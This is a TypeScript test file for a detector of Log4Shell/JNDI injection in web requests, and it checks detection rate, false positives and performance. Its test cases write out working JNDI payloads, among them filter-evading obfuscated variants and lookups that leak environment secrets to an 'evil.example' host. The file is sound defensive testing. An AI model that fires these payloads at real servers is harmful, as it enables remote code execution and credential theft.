// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${…}` here is attack and benign input text, not a template
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { DEFAULT_LIMITS, type InputKind, walkInputs } from '../src/inspection/inputs.js'
import { normalise } from '../src/inspection/normalise.js'
import { jndi } from '../src/inspection/rules/jndi.js'
import { corpus, inputsOf, inspectWith, score } from './support/corpus.js'

const HEADERS = ['user-agent', 'referer', 'x-forwarded-for', 'x-forwarded-host']

function check(raw: string, kind: InputKind = 'query') {
  const { text, anomalies } = normalise(raw, kind === 'query' || kind === 'query_key')
  return jndi.match(text, kind, anomalies)
}

/** Attack entries whose payload sits in a header the default configuration does not inspect. */
const uninspected = (field: string) => field.startsWith('header:') && !HEADERS.includes(field.slice(7))

describe('jndi on the corpus', () => {
  const s = score(jndi, 'jndi')
  const unseen = s.misses.filter((e) => uninspected(e.field))
  const missed = s.misses.filter((e) => !uninspected(e.field)).map((e) => e.id)

  test('detects at least 95 % of the JNDI entries in the inputs it is shown', () => {
    const rate = s.detected / (s.total - unseen.length)
    assert.ok(
      rate >= 0.95,
      `rate ${rate.toFixed(3)} (${s.detected}/${s.total - unseen.length}); missed: ${missed}`,
    )
  })

  test('the rest is in headers left out by default, and found once they are configured', () => {
    for (const entry of unseen) {
      const hit = inspectWith(jndi, entry, [...HEADERS, entry.field.slice(7)])
      assert.ok(hit !== undefined, entry.id)
    }
  })

  test('no benign request matches', () => {
    assert.deepEqual(
      s.falsePositives.map((e) => e.id),
      [],
    )
  })
})

describe('jndi rules', () => {
  const cases: [string, string, string][] = [
    ['${jndi:ldap://evil.example/a}', 'jndi.lookup', '${jndi:ldap://evil.example/a}'],
    ['${jndi:dns://${hostName}.evil.example}', 'jndi.lookup', '${jndi:dns://'],
    ['${${lower:j}ndi:ldap://evil.example/a}', 'jndi.obfuscated', '${${lower:j}ndi:'],
    [
      '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
      'jndi.obfuscated',
      '${${::-j}',
    ],
    [
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
      'jndi.obfuscated',
      '${${env:',
    ],
    [
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example}",
      'jndi.obfuscated',
      "${${date:'j'}",
    ],
    ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}', 'jndi.obfuscated', '${j${k8s:'],
    ['${${lower:jnd}${lower:${upper:ı}}:ldap://evil.example}', 'jndi.obfuscated', '${${lower:jnd}'],
    ['${jnd${123%ff:-${123%ff:-i:}}ldap://evil.example}', 'jndi.obfuscated', '${jnd'],
    ['x j${::-nD}i${::-:}', 'jndi.obfuscated', 'x j${::-nd}i'],
    ['${:1337:-x$}{jndi:ldap://evil.example/a}', 'jndi.obfuscated', '${:1337:-x$}'],
    ['${jndi:ldap://${env:USER}.evil.example', 'jndi.lookup', '${jndi:ldap://'],
    ['$&lbrace;jndi:ldap://evil.example/a}', 'jndi.lookup', '${jndi:ldap://'],
    ['https://www.example.org/jndi:ldap://evil.example/a', 'jndi.url', 'jndi:ldap://evil.example/a'],
    ['${env:AWS_SECRET_ACCESS_KEY}', 'jndi.log4j-lookup', '${env:aws_secret_access_key}'],
    ['${sys:java.version}', 'jndi.log4j-lookup', '${sys:java.version}'],
    ['${java:version} ok', 'jndi.log4j-lookup', '${java:version}'],
  ]
  for (const [raw, rule, fragment] of cases)
    test(`${raw} → ${rule}`, () => {
      const found = check(raw, 'header')
      assert.equal(found?.rule, rule)
      assert.ok(found.fragment.startsWith(fragment), found.fragment)
      assert.equal(found.confidence, rule === 'jndi.lookup' || rule === 'jndi.obfuscated' ? 'high' : 'medium')
    })

  const benign = [
    'Total: ${price}',
    'The ${price} placeholder shows in the email template',
    '@Value("${app.name}") and @Value("#{systemProperties[\'user.home\']}")',
    'echo ${HOME:-/tmp} ${USER:?unset}',
    'const url = `http://localhost:${process.env.PORT}/${a ? b : c}`',
    'run: deploy ${{ secrets.TOKEN }}',
    'datasource jndi-name java:comp/env/jdbc/main',
    'what is jndi: a naming interface',
    '$5 {bonus}',
    '${${${${${${${${${${${${${${${${${${${${x}}}}}}}}}}}}}}}}}}}}',
  ]
  for (const raw of benign) test(`benign: ${raw}`, () => assert.equal(check(raw, 'body'), undefined))
})

describe('jndi fragments and cost', () => {
  test('a finding in a long input is a part of it, at most 64 characters', () => {
    let seen = 0
    for (const entry of [...corpus('attacks'), ...corpus('benign')]) {
      const inputs = inputsOf(entry)
      if (inputs === undefined) continue
      walkInputs(inputs, HEADERS, DEFAULT_LIMITS, (kind, raw) => {
        const { text, anomalies } = normalise(raw, kind === 'query' || kind === 'query_key')
        const found = jndi.match(text, kind, anomalies)
        if (found !== undefined) {
          seen++
          assert.ok(found.fragment.length <= 64, found.fragment)
          if (text.length > 64) assert.notEqual(found.fragment, text)
        }
        return false
      })
    }
    assert.ok(seen > 30)
  })

  test('hostile shapes stay linear', () => {
    for (const text of [
      '${'.repeat(4096),
      '${a:-'.repeat(1600),
      '${lower:'.repeat(1000) + '}'.repeat(1000),
      '$&lbrace;'.repeat(900),
      'jndi:'.repeat(1600),
    ]) {
      const start = performance.now()
      jndi.match(text, 'body', 0)
      assert.ok(performance.now() - start < 50, text.slice(0, 16))
    }
  })
})
